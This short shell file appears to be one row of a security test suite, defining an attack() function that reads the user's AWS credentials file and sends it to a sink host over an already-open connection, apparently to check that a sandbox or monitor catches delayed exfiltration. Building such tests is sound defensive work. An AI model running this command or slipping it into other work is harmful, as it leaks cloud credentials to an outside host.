# SPDX-License-Identifier: Apache-2.0
TITLE="connect first, read later, sendmsg on the old connection"
ROW="N02"
attack() { "$PROVOKE/late" sendmsg "$HOME/.aws/credentials" "$SINK4" 9000; }
